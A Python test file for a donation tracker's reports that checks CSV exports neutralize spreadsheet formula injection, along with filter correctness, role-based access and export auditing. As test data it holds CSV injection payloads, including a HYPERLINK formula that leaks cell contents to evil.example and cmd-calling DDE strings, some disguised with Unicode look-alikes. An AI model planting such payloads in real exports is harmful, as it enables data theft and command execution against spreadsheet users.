"""CSV exports and the donation list: formula cells neutralized, filters that select exactly
the donations plain SQL selects, malformed filters refused with a message (never a 500, never
a CSV), directors and admins only, and every export audited.
"""

from __future__ import annotations

import csv
import io
import secrets
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from urllib.parse import urlencode, urlsplit
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa

from tests.factories import make_case
from tracker.audit import AuditEntry
from tracker.cases import workflow
from tracker.cases.models import RescueCase
from tracker.core.money import Money
from tracker.core.time import current_fiscal_year, utcnow
from tracker.core.types import UTCDateTime
from tracker.donations import recording as payment_services
from tracker.donations import services as donation_services
from tracker.donations.adjustments import adjust_gift
from tracker.donations.models import Donation
from tracker.extensions import db
from tracker.payments.gateway import SessionFacts
from tracker.reports.exports import looks_like_formula, safe_cell

TOKYO = ZoneInfo("Asia/Tokyo")
TABLES = ("summary", "months", "channels", "currencies", "cases", "lybunt", "sybunt")

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
AT_SUM = "@SUM(A1:A9)"
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TABBED = "\t=1+1"
CR = "\r=1+1"


# --- safe_cell ---------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [HYPERLINK, AT_SUM, PLUS, MINUS, TABBED, CR, "=", "@", "+", "-",
                                  "-100", "=1+2"])
def test_safe_cell_neutralizes_text_that_starts_a_formula(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", [
    "\uff1d1+1",  # a full-width equals sign
    "\ufe66HYPERLINK(\"http://evil.example\")",  # a small equals sign
    "\u200b=1+1",  # a zero-width space before =
    "\u200b\u200c\u200d\u2060\ufeff=1+1",  # a run of invisible characters
    "\u202e=1+1", "\u2066@SUM(A1)", "\u00ad+1", "\u3164=1",
    "\uff0bcmd", "\ufe62cmd", "\uff0d2+3", "\ufe63-2", "\uff20SUM(A1)", "\ufe6bSUM(A1)",
    "\u200b\t=1", "\u200b\r=1", "\n=1+1", "\x00=1",
])
def test_safe_cell_sees_through_look_alikes_and_invisible_characters(text: str) -> None:
    """Issue 15, item 8: judged after NFKC and without leading invisible characters."""
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Ann", "", "1=2", "a@b.example", " =1+1", "'=1", "ｼ", "0-1",
                                   "\u200bAnn", "\uff21nn", "\uff11\uff1d2"])
def test_safe_cell_leaves_other_text_alone(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [0, 5, -5, Decimal("-12.50"), Decimal("4500"), 1.5, None])
def test_safe_cell_leaves_numbers_alone(value: object) -> None:
    assert safe_cell(value) is value


# --- the data ------------------------------------------------------------------------------------


def tokyo(y: int, m: int, d: int, hh: int = 12, mm: int = 0) -> datetime:
    return datetime(y, m, d, hh, mm, tzinfo=TOKYO)


def offline(case: RescueCase | None, amount: int, on: date, currency: str = "JPY", *,
            name: str = "", email: str | None = None, channel: str = "bank_transfer") -> Donation:
    donation = donation_services.record_offline_gift(case, donation_services.OfflineGift(
        amount=Money(amount, currency), channel=channel, received_on=on, donor_name=name,
        donor_email=email))
    db.session.commit()
    return donation


def card(case: RescueCase | None, amount: int, at: datetime | None, currency: str = "JPY", *,
         name: str = "", email: str | None = None) -> Donation:
    """A card donation as the form starts it; settled at ``at`` unless ``at`` is None."""
    donation = donation_services.start_donation(case, donation_services.GiftInput(
        amount=Money(amount, currency), name=name, email=email,
        wall="name" if name else "anonymous"), "sandbox")
    if at is not None:
        token = secrets.token_hex(8)
        donation.gateway_payment_intent_id = f"pi_sbx_{token}"
        donation_services.settle(donation, donation_services.configured_settlement(
            Money(amount, currency), 0), settled_at=at)
    db.session.commit()
    return donation


def build() -> dict[str, Donation]:
    alpha = make_case("alpha-six", status=workflow.FUNDRAISING, public_title="Alpha")
    bravo = make_case("bravo-two", status=workflow.FUNDRAISING, public_title="Bravo")
    make_case("charlie-none", status=workflow.FUNDRAISING, public_title="Charlie")
    made = {
        "aug31_noon": offline(alpha, 10_000, date(2025, 8, 31), name=HYPERLINK,
                              email="hyper@example.org"),
        "aug31_2359": card(alpha, 12_345, tokyo(2025, 8, 31, 23, 59), name=AT_SUM,
                           email="at@example.org"),
        "sep1_0000": card(None, 5_000, tokyo(2025, 9, 1, 0, 0), "USD", email="ivy@example.org"),
        "sep15_usd_cash": offline(bravo, 2_550, date(2025, 9, 15), "USD", name=PLUS, channel="cash"),
        "oct1_general": offline(None, 7_000, date(2025, 10, 1), name=MINUS, channel="cash"),
        "tabbed": offline(bravo, 3_000, date(2024, 12, 24), name=TABBED),
        "cr": offline(bravo, 3_100, date(2024, 12, 25), name=CR),
        "pending": card(alpha, 3_000, None, email="pending@example.org"),
        "failed": card(alpha, 4_000, None),
    }
    failed = made["failed"]
    payment_services.mark_failed(SessionFacts(
        session_id="cs_test_failed", status="complete", payment_status="unpaid",
        donation_id=failed.public_id, amount_minor=failed.amount_minor, currency=failed.currency,
        livemode=False, payment_intent_id=None, created=utcnow()), "failed")
    adjust_gift(made["oct1_general"], -500, "Bank charge found on the statement", None)
    db.session.commit()
    return made


@pytest.fixture
def data(app) -> dict[str, Donation]:  # noqa: ANN001
    return build()


def sign_in(client, auth, make_user, role: str = "director"):  # noqa: ANN001, ANN201
    user, password = make_user(role)
    response = auth.login(user.email, password)
    assert response.status_code in (302, 303), response.status_code
    return user


@pytest.fixture
def director(data, client, auth, make_user):  # noqa: ANN001, ANN201
    return sign_in(client, auth, make_user, "director")


def read_csv(response) -> list[list[str]]:  # noqa: ANN001
    assert response.status_code == 200, (response.status_code, response.text[:500])
    assert response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "private, no-store"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


# --- formula cells in the CSVs -------------------------------------------------------------------


def test_donor_names_that_look_like_formulas_are_neutralized_in_the_donation_csv(
        data, director, client) -> None:  # noqa: ANN001
    table = read_csv(client.get("/reports/donations?format=csv"))
    header, body = table[0], table[1:]
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in body}
    expected = {"aug31_noon": HYPERLINK, "aug31_2359": AT_SUM, "sep15_usd_cash": PLUS,
                "oct1_general": MINUS, "tabbed": TABBED, "cr": CR}
    for key, name in expected.items():
        assert by_id[data[key].public_id]["donor name"] == "'" + name, key
    # no cell at all starts a formula
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    # amounts are numbers in major units, not text
    assert by_id[data["sep1_0000"].public_id]["amount"] == "50.00"
    assert by_id[data["sep1_0000"].public_id]["gross"] == "7500"
    assert by_id[data["sep15_usd_cash"].public_id]["amount"] == "25.50"
    assert by_id[data["aug31_2359"].public_id]["settled (local)"] == "2025-08-31 23:59"
    assert by_id[data["sep1_0000"].public_id]["settled (local)"] == "2025-09-01 00:00"


LOOK_ALIKES = ["\uff1dHYPERLINK(\"http://evil.example/\",\"x\")", "\ufe661+1", "\u200b=1+1",
               "\ufeff\u2060@SUM(A1:A9)", "\uff0bcmd"]


def test_look_alike_formulas_are_neutralized_in_the_donation_csv(data, director, client) -> None:  # noqa: ANN001
    """Issue 15, item 8: full-width, small and zero-width-led formulas in a real export."""
    made = [offline(None, 1_000 + i, date(2025, 10, 2), name=name, channel="cash")
            for i, name in enumerate(LOOK_ALIKES)]
    table = read_csv(client.get("/reports/donations?format=csv"))
    header, body = table[0], table[1:]
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in body}
    for donation, name in zip(made, LOOK_ALIKES, strict=True):
        assert by_id[donation.public_id]["donor name"] == "'" + name
    for row in body:
        for cell in row:
            assert cell.startswith("'") or not looks_like_formula(cell), row


def test_lapsed_donor_csv_neutralizes_names_and_keeps_negative_amounts_numbers(
        data, director, client) -> None:  # noqa: ANN001
    # the Aug 31 donors gave in FY2024 and not in FY2025: LYBUNT of FY2025
    lybunt = read_csv(client.get("/reports/2025/lybunt.csv"))
    names = {row[1] for row in lybunt[1:]}
    assert {"'" + HYPERLINK, "'" + AT_SUM, "'" + TABBED, "'" + CR} <= names
    assert all(not n.startswith(("=", "@", "+", "-", "\t", "\r")) for n in names)
    # the correction of ¥500 was booked today
    summary = dict(read_csv(client.get(f"/reports/{current_fiscal_year()}/summary.csv"))[1:])
    assert summary["Corrections"] == "-500"  # a negative number, not neutralized text
    assert summary["Net"] == "-500"


# --- filters ---------------------------------------------------------------------------------------


def utc_midnight(day: date) -> datetime:
    return datetime.combine(day, time.min, TOKYO).astimezone(UTC)


def sql_selection(args: dict[str, str]) -> list[str]:
    """The donations a filter should select, newest first, with plain SQL (local days
    inclusive, of when the money arrived: settled, else created)."""
    where, params = ["1 = 1"], {}
    binds = []
    if args.get("from"):
        where.append("COALESCE(d.settled_at, d.created_at) >= :s")
        params["s"] = utc_midnight(date.fromisoformat(args["from"]))
        binds.append(sa.bindparam("s", type_=UTCDateTime()))
    if args.get("to"):
        where.append("COALESCE(d.settled_at, d.created_at) < :e")
        params["e"] = utc_midnight(date.fromisoformat(args["to"]) + timedelta(days=1))
        binds.append(sa.bindparam("e", type_=UTCDateTime()))
    if args.get("case") == "general":
        where.append("d.case_id IS NULL")
    elif args.get("case"):
        where.append("c.slug = :slug")
        params["slug"] = args["case"]
    for name in ("channel", "currency", "status"):
        if args.get(name):
            where.append(f"d.{name} = :{name}")
            params[name] = args[name].upper() if name == "currency" else args[name]
    text = sa.text("SELECT d.public_id FROM donations d LEFT JOIN rescue_cases c ON c.id = d.case_id "
                   f"WHERE {' AND '.join(where)} ORDER BY d.id DESC")
    if binds:
        text = text.bindparams(*binds)
    return [public_id for (public_id,) in db.session.execute(text, params)]


FILTERS = [
    {},
    {"from": "2025-08-31", "to": "2025-08-31"},
    {"from": "2025-09-01", "to": "2025-09-01"},
    {"from": "2025-09-01"},
    {"to": "2025-08-31"},
    {"from": "2024-12-25", "to": "2025-09-15"},
    {"case": "alpha-six"},
    {"case": "bravo-two"},
    {"case": "charlie-none"},
    {"case": "general"},
    {"channel": "card"},
    {"channel": "cash"},
    {"channel": "bank_transfer"},
    {"currency": "USD"},
    {"currency": "usd"},
    {"currency": "JPY"},
    {"status": "pending"},
    {"status": "failed"},
    {"status": "succeeded"},
    {"from": "2025-08-01", "to": "2025-09-30", "case": "alpha-six", "channel": "card",
     "currency": "JPY", "status": "succeeded"},
    {"case": "general", "currency": "USD", "channel": "card"},
]

#: the donations each filter must select, by hand (checks the SQL above as well)
BY_HAND = {
    0: {"aug31_noon", "aug31_2359", "sep1_0000", "sep15_usd_cash", "oct1_general", "tabbed", "cr",
        "pending", "failed"},
    1: {"aug31_noon", "aug31_2359"},
    2: {"sep1_0000"},
    4: {"aug31_noon", "aug31_2359", "tabbed", "cr"},
    5: {"aug31_noon", "aug31_2359", "sep1_0000", "sep15_usd_cash", "cr"},
    9: {"sep1_0000", "oct1_general"},
    13: {"sep1_0000", "sep15_usd_cash"},
    16: {"pending"},
    17: {"failed"},
    19: {"aug31_2359"},
    20: {"sep1_0000"},
}


@pytest.mark.parametrize("index", range(len(FILTERS)))
def test_filters_select_exactly_what_plain_sql_selects(data, director, client, index: int) -> None:  # noqa: ANN001
    args = FILTERS[index]
    expected = sql_selection(args)
    if index in BY_HAND:
        names = {data[key].public_id: key for key in data}
        assert {names[p] for p in expected} == BY_HAND[index]
    table = read_csv(client.get("/reports/donations?" + urlencode({**args, "format": "csv"})))
    assert table[0][0] == "donation"
    assert [row[0] for row in table[1:]] == expected, args
    page = client.get("/reports/donations?" + urlencode(args))
    assert page.status_code == 200
    shown = [p for p in expected if p in page.text]
    assert shown == expected
    others = set(sql_selection({})) - set(expected)
    assert not [p for p in others if p in page.text], args


# --- malformed filters ---------------------------------------------------------------------------

MALFORMED = [
    ({"from": "2025-09-02", "to": "2025-09-01"}, "swap them"),
    ({"from": "2025-13-01"}, "Write the from date as YYYY-MM-DD"),
    ({"to": "yesterday"}, "Write the to date as YYYY-MM-DD"),
    ({"from": "1999-12-31"}, "out of range"),
    ({"to": "9999-01-01"}, "out of range"),
    ({"case": "no-such-case"}, "There is no case with that address."),
    ({"case": "x" * 300}, "There is no case with that address."),
    ({"channel": "paypal"}, "Channel is one of card, bank_transfer, cash, konbini."),
    ({"channel": "CARD"}, "Channel is one of"),
    ({"status": "refunded"}, "Status is one of"),
    ({"currency": "XYZ"}, "Unknown currency"),
    ({"currency": "dollars"}, "Unknown currency"),
]


@pytest.mark.parametrize(("args", "message"), MALFORMED)
def test_malformed_filters_are_refused_with_a_message(data, director, client, args: dict[str, str],
                                                     message: str) -> None:  # noqa: ANN001
    before = exports_audited()
    for extra in ({}, {"format": "csv"}):
        response = client.get("/reports/donations?" + urlencode({**args, **extra}))
        assert response.status_code == 400, (args, response.status_code)
        assert response.mimetype == "text/html"
        assert 'role="alert"' in response.text
        assert message in response.text
        assert data["aug31_noon"].public_id not in response.text  # no rows shown
    assert exports_audited() == before  # nothing was exported


@pytest.mark.parametrize("args", [{"case": "alpha-six\x00"}, {"from": "2025-09-01\x00"},
                                  {"channel": "card\r\n"}])
def test_control_characters_in_a_filter_are_refused_before_the_report(
        data, director, client, args: dict[str, str]) -> None:  # noqa: ANN001
    """A control character in any query parameter is a 400 page (tracker.core.query)."""
    before = exports_audited()
    for extra in ({}, {"format": "csv"}):
        response = client.get("/reports/donations?" + urlencode({**args, **extra}))
        assert response.status_code == 400, (args, response.status_code)
        assert "control characters" in response.text
        assert data["aug31_noon"].public_id not in response.text
    assert exports_audited() == before


# --- who may see the reports ------------------------------------------------------------------------


def report_urls() -> list[str]:
    return ["/reports", "/reports?year=2025", "/reports/2025",
            *[f"/reports/2025/{t}.csv" for t in TABLES], "/reports/donations",
            "/reports/donations?from=2025-09-01&case=general", "/reports/donations?format=csv"]


def test_anonymous_visitors_are_sent_to_sign_in(data, client) -> None:  # noqa: ANN001
    for url in report_urls():
        response = client.get(url)
        assert response.status_code in (302, 303), (url, response.status_code)
        location = urlsplit(response.headers["Location"])
        assert location.path == "/login", url
        assert "text/csv" not in response.headers.get("Content-Type", "")
        assert "12,345" not in response.text and "data-figure" not in response.text


def test_staff_are_refused(data, client, auth, make_user) -> None:  # noqa: ANN001
    sign_in(client, auth, make_user, "staff")
    for url in report_urls():
        response = client.get(url)
        assert response.status_code == 403, (url, response.status_code)
        assert response.mimetype == "text/html"
        assert "12,345" not in response.text and "data-figure" not in response.text
        assert "HYPERLINK" not in response.text
    assert exports_audited() == []


@pytest.mark.parametrize("role", ["director", "admin"])
def test_directors_and_admins_may_read_everything(data, client, auth, make_user, role: str) -> None:  # noqa: ANN001
    sign_in(client, auth, make_user, role)
    for url in report_urls():
        response = client.get(url, follow_redirects=True)
        assert response.status_code == 200, (url, response.status_code)
    page = client.get("/reports/2024")
    assert 'data-figure="gifts">¥' in page.text


def test_bad_years_and_tables_get_a_clear_message(data, director, client) -> None:  # noqa: ANN001
    current = current_fiscal_year()
    response = client.get("/reports")
    assert response.status_code in (302, 303)
    assert urlsplit(response.headers["Location"]).path == f"/reports/{current}"
    response = client.get("/reports?year=2024")
    assert urlsplit(response.headers["Location"]).path == "/reports/2024"
    for raw in ("abc", "12345", "20.5", "-2025", "２０２５", "2025x"):
        response = client.get("/reports?" + urlencode({"year": raw}))
        assert response.status_code == 400, (raw, response.status_code)
        assert "is not a fiscal year" in response.text
    for url in ("/reports/1990", "/reports/1990/summary.csv", f"/reports/{current + 1}",
                f"/reports/{current + 1}/months.csv", "/reports/0", "/reports/99999999999999999999999"):
        response = client.get(url)
        assert response.status_code == 404, (url, response.status_code)
        assert response.mimetype == "text/html"
    assert "There are no figures for the fiscal year 1990" in client.get("/reports/1990").text
    response = client.get("/reports/2025/donors.csv")
    assert response.status_code == 404
    assert "There is no table" in response.text
    assert client.get("/reports/2025/summary.txt").status_code == 404
    assert exports_audited() == []


# --- audit --------------------------------------------------------------------------------------


def exports_audited() -> list[tuple]:
    db.session.rollback()  # see what the requests committed
    return [(e.actor_id, e.object_type, e.after) for e in db.session.scalars(
        sa.select(AuditEntry).where(AuditEntry.action == "report.exported").order_by(AuditEntry.id))]


def test_every_export_is_audited(data, client, auth, make_user) -> None:  # noqa: ANN001
    user = sign_in(client, auth, make_user, "admin")
    for url in ("/reports/2025", "/reports/donations", "/reports/donations?case=general"):
        assert client.get(url).status_code == 200
    assert exports_audited() == []  # reading is not exporting
    for table in TABLES:
        read_csv(client.get(f"/reports/2025/{table}.csv"))
    read_csv(client.get("/reports/donations?" + urlencode(
        {"format": "csv", "from": "2025-09-01", "to": "2025-09-30", "case": "general",
         "channel": "card", "currency": "usd", "status": "succeeded"})))
    read_csv(client.get("/reports/donations?format=csv"))
    assert exports_audited() == [
        *[(user.id, "reports", {"fiscal_year": 2025, "table": t}) for t in TABLES],
        (user.id, "donations", {"filters": {"from": "2025-09-01", "to": "2025-09-30", "case": "general",
                                            "channel": "card", "currency": "USD",
                                            "status": "succeeded"}}),
        (user.id, "donations", {"filters": {}}),
    ]
